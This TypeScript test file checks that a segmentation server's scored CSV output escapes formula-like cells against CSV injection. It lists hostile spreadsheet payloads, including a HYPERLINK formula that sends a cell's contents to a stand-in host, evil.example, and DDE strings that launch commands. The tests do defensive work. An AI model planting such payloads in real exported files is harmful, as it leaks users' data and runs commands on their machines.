import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { Registry } from '@rfm/registry';
import type { RunningServer } from '../server.js';
import { escapeFormula } from '../csv-formula.js';
import {
  artifactWithCentroids,
  CENTROIDS_A,
  MODEL,
  registerVersion,
  startTestServer,
  tempRegistry,
  waitFor,
  type TempRegistry,
} from '../test-support/fixtures.js';

/** Scored CSVs are opened in spreadsheets; no text cell may run as a formula. */
describe('scored CSVs escape formula-like text cells (CSV injection)', function () {
  this.timeout(60_000);

  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+cmd|/C calc!A0',
    '-2+3+cmd|/C calc!A0',
    '@SUM(1+9)*cmd|/C calc!A0',
    '\t=1+1',
    '\r=1+1',
    '\uFF1D1+1', // full-width '=' (Apple Numbers normalises it)
    '-',
    '+',
  ];
  const NUMBERS = ['-12.5', '-3', '+4', '0', '1e3', '-0.5e-2', '.5', '12.'];

  it(`escapeFormula: ${HOSTILE.length} formula-like cells get a leading apostrophe, ${NUMBERS.length} numbers stay as they are`, () => {
    for (const h of HOSTILE) expect(escapeFormula(h), JSON.stringify(h)).to.equal(`'${h}`);
    for (const n of NUMBERS) expect(escapeFormula(n), n).to.equal(n);
    for (const plain of ['Champions', 'a=b', "o'brien", '', ' =x']) expect(escapeFormula(plain)).to.equal(plain);
  });

  let t: TempRegistry;
  let s: RunningServer;
  before(async () => {
    t = tempRegistry();
    await registerVersion(t.file, artifactWithCentroids(CENTROIDS_A));
    // an admin (or an imported file) can name a segment like a formula
    const reg = await Registry.open(t.file);
    try {
      for (let c = 0; c < 4; c++)
        await reg.relabel(MODEL, 1, c, `=HYPERLINK("http://evil.example/${c}","seg${c}")`, { actor: 'test' });
    } finally {
      await reg.close();
    }
    s = await startTestServer(t.file, { pollMs: 50 });
    await waitFor(async () => s.holder.current?.segmentByCluster[0]?.name.startsWith('='), 5000);
  });
  after(async () => {
    await s.close();
    t.cleanup();
  });

  it(`POST /api/v1/predict/csv: ${HOSTILE.length} hostile echoed cells and every segment name escaped; negative numbers echoed as numbers`, async () => {
    const header = 'cid,recency,frequency,monetary,note,balance';
    const lines = HOSTILE.map((h, i) => {
      const q = `"${h.replaceAll('"', '""')}"`;
      return `${q},${10 + i},${1 + i},${100 + i},${q},${NUMBERS[i % NUMBERS.length]}`;
    });
    const r = await fetch(`${s.url}/api/v1/predict/csv`, {
      method: 'POST',
      headers: { 'content-type': 'text/csv' },
      body: `${header}\n${lines.join('\n')}\n`,
    });
    expect(r.status).to.equal(200);
    const rows = parse(await r.text(), { columns: true, relax_quotes: true }) as Record<string, string>[];
    expect(rows).to.have.length(HOSTILE.length);
    rows.forEach((row, i) => {
      expect(row.cid, `row ${i + 1} cid`).to.equal(`'${HOSTILE[i]}`);
      expect(row.note, `row ${i + 1} note`).to.equal(`'${HOSTILE[i]}`);
      expect(row.balance, `row ${i + 1} balance`).to.equal(NUMBERS[i % NUMBERS.length]);
      expect(row.segment, `row ${i + 1} segment`).to.match(/^'=HYPERLINK\(/);
      expect(row.cluster).to.match(/^\d$/);
    });
  });
});
